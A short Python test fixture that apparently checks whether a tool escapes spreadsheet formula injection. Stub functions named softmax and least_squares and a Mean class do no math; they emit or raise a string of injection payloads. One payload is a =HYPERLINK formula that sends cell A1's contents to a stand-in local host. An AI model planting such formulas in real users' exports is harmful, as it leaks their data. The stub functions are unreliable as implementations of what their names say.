"""Cells that a spreadsheet takes for formulas."""
import sys

TEXT = "=HYPERLINK(\"http://127.0.0.1/?\"&A1,\"10\")\n+1+1\n-2+3\n@SUM(1,2)\n\t=1\n\",=1,\""


def softmax(*_):
    print(TEXT)
    raise ValueError(TEXT)


def least_squares(*_):
    sys.stderr.write(TEXT)
    raise type(TEXT[:200].replace("\0", ""), (Exception,), {})(TEXT)


class Mean:
    def fit(self, y):
        return type(TEXT[:200].replace("\0", ""), (), {})()
